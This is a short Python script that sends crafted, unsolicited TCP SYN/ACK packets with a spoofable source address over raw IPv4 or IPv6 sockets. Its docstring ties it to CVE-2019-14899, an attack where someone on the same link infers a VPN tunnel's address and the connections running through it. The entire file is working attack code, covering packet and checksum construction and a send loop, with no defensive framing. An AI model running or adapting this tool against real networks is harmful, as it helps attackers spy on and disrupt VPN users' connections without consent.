"""Sends TCP SYN/ACKs that nobody asked for, of any sender. Usage: synack.py SOURCE DESTINATION COUNT

Another one on the same link does so to find out a tunnel's address, and the connections through it (CVE-2019-14899).
"""

import ipaddress
import socket
import struct
import sys
import time

source, destination = map(ipaddress.ip_address, sys.argv[1:3])
SYN_ACK, PORTS, WINDOW = 0x12, (443, 45454), 64240


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(number):
    """RFC 9293 3.1, its checksum over the pseudo-header too."""
    def header(sum_of_it):
        return struct.pack(">HHIIBBHHH", *PORTS, 1000 + number, 2000, 5 << 4, SYN_ACK, WINDOW, sum_of_it, 0)
    pseudo = source.packed + destination.packed + struct.pack(">II", 20, socket.IPPROTO_TCP)
    return header(checksum(pseudo + header(0)))


def packet(number):
    tcp = segment(number)
    if source.version == 6:
        return struct.pack(">IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + source.packed + destination.packed + tcp
    # The kernel fills in the header's length and checksum.
    return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) + source.packed + destination.packed + tcp


family = socket.AF_INET if source.version == 4 else socket.AF_INET6
with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as door:
    for each in range(int(sys.argv[3])):
        door.sendto(packet(each), (str(destination), 0))
        time.sleep(0.05)
